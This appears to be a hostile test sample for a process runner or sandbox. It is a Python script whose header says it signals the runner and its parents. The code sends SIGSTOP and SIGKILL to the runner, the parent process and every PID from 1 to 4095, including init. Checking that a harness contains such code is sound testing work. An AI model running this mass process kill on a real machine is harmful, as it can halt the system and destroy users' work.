#: does = "sends signals to the runner, to its parents and to all numbers a process may have"
#: ends = ["crashed", "passed", "timeout"]
#: limits = {wall_s = 5.0}
#: harm = "victim"
import os
import signal

victims = [int(os.environ["GT_VICTIM"])]
if not os.environ.get("HARMLESS"):
    victims += [int(os.environ["GT_RUNNER"]), os.getppid(), *range(1, 4096)]
for victim in victims:
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if victim != os.getpid():
                os.kill(victim, number)
        except OSError:
            pass
